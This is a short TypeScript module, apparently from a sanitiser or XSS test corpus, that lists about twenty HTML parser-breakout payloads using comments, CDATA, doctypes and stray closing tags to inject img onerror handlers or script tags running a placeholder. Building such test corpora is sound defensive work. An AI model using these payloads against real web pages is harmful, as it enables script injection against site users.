import { family } from "./payload";

/** Comments, CDATA sections, declarations and instructions, which parsers end in different places. */
export const breakouts = family("breakouts", 500, [
  "<!-- --><img src=x onerror=RUN>",
  "<!--><img src=x onerror=RUN>-->",
  "<!---><img src=x onerror=RUN>-->",
  "<!-- --!><img src=x onerror=RUN> -->",
  '<!--<img src="--><img src=x onerror=RUN//">',
  "<!-- <!-- --><img src=x onerror=RUN> -->",
  "--><img src=x onerror=RUN><!--",
  "<![CDATA[<img src=x onerror=RUN>]]>",
  "]]><img src=x onerror=RUN>",
  "<![CDATA[]]]]><![CDATA[><img src=x onerror=RUN>]]>",
  "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
  "<?xml version='1.0'?><img src=x onerror=RUN>",
  "<?><img src=x onerror=RUN>?>",
  "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=RUN>'>]>&y;",
  "<!x><img src=x onerror=RUN>",
  "</><img src=x onerror=RUN>",
  "</p x='><img src=x onerror=RUN>'>",
  "<!--[if true]><img src=x onerror=RUN><![endif]-->",
  "</blockquote></article></main></body></html><img src=x onerror=RUN>",
  "</section></div></li></ul></td></tr></table><script>RUN</script>",
]);
